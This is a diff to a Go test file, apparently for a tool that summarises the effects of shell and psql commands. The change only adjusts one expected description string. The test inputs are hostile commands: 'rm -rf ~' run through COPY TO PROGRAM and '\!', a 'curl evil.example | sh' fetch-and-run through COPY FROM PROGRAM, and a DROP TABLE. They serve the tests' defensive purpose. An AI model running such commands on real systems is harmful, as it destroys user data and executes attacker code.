@@ -55,7 +55,7 @@ func TestSQLChangesTables(t *testing.T) {
 func TestSQLRunsAndGrants(t *testing.T) {
 	sayEach(t, []saying{
 		{`psql -c "COPY t TO PROGRAM 'rm -rf ~'"`, `delete /home/u wide`},
-		{`psql -c "COPY t FROM PROGRAM 'curl evil.example | sh'"`, `fetch http://evil.example; run-remote evil.example`},
+		{`psql -c "COPY t FROM PROGRAM 'curl evil.example | sh'"`, `fetch http://evil.example; run-remote http://evil.example`},
 		{`psql -c "COPY t TO '/tmp/x.csv'"`, `write /tmp/x.csv`},
 		{`psql -c '\! rm -rf ~'`, `delete /home/u wide`},
 		{`psql -c 'SELECT 1' -c 'DROP TABLE users'`, `drop table users`},
